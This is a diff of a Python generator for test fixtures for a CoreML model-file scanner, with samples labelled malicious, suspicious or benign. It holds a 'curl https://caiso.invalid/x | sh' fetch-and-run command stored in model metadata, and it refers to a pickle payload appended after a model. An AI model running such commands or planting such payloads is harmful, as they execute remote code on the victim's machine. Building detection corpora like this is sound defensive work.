@@ -46,7 +46,7 @@ def coreml(corpus):
     program = block(502, integer(1, 1) + block(2, block(1, "main") + block(2, block(3, blob))))
     corpus.malicious("program-blob-path.mlmodel", "coreml", "a program reads its weights from a file outside", mlmodel(program))
     corpus.malicious("pickle-tail.mlmodel", "coreml", "a payload after the model", mlmodel(network(relu)) + system())
-    corpus.malicious("metadata-script.mlmodel", "coreml", "metadata holds a shell command", mlmodel(network(relu), [("postinstall", "curl https://caiso.invalid/x | sh")]))
+    corpus.suspicious("metadata-script.mlmodel", "coreml", "metadata holds a shell command", mlmodel(network(relu), [("postinstall", "curl https://caiso.invalid/x | sh")]))
     corpus.suspicious("cut.mlmodel", "coreml", "cut in the middle", mlmodel(network(*[relu] * 20))[:150])
     manifest = b'{"fileFormatVersion": "1.0.0", "itemInfoEntries": {"A": {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": "com.apple.CoreML/model.mlmodel"}}, "rootModelIdentifier": "A"}'
     corpus.benign("relu.mlpackage", "coreml package", "a package with one model", {"Manifest.json": manifest, "Data/com.apple.CoreML/model.mlmodel": mlmodel(network(relu))})
